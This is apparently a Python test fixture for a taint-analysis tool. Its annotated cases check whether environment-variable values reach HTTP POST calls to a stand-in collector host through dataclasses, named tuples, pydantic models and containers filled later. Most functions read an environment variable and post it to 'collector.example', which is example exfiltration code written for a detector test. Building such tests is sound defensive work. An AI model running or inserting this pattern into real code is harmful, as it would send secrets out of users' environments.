# Objects that are made of their members: data classes, named tuples, models; and objects that are filled after they
# were put somewhere.
import os
from dataclasses import dataclass
from typing import NamedTuple

import requests
from pydantic import BaseModel

URL = "https://collector.example/r"


@dataclass
class Reading:
    name: str
    data: str


@dataclass
class Stamped(Reading):
    at: int


class Pair(NamedTuple):
    name: str
    data: str


class Message(BaseModel):
    name: str
    data: str


def by_position():
    reading = Reading("x", os.environ["A"])  #~ source(ENVIRONMENT) f1
    requests.post(URL, data=reading.data)  #~ sink(egress.http) f1, finding(traced) f1


def inherited():
    stamped = Stamped("x", os.environ["B"], 7)  #~ source(ENVIRONMENT) f2
    requests.post(URL, data=stamped.data)  #~ sink(egress.http) f2, finding(traced) f2


def of_a_library():
    pair = Pair("x", os.environ["C"])  #~ source(ENVIRONMENT) f3
    requests.post(URL, data=pair.data)  #~ sink(egress.http) f3, finding(traced) f3


def by_name():
    message = Message(data=os.environ["D"], name="x")  #~ source(ENVIRONMENT) f4
    requests.post(URL, data=message.data)  #~ sink(egress.http) f4, finding(traced) f4


@dataclass
class Label:
    name: str
    secret: str


def another_member():
    label = Label("x", os.environ["E"])
    requests.post(URL, data=label.name)  #~ ok


ITEMS = []
ITEMS.append(os.environ["F"])  #~ source(ENVIRONMENT) f5

KNOWN = []
COPIES = list(KNOWN)
KNOWN.append(os.environ["G"])


def of_the_module():
    requests.post(URL, data=ITEMS[0])  #~ sink(egress.http) f5, finding(traced) f5
    requests.post(URL, data=COPIES[0])  #~ ok


def filled_later():
    headers = {}
    options = {"headers": headers}
    headers["x"] = os.environ["H"]  #~ source(ENVIRONMENT) f6
    requests.post(URL, **options)  #~ sink(egress.http) f6, finding(traced) f6
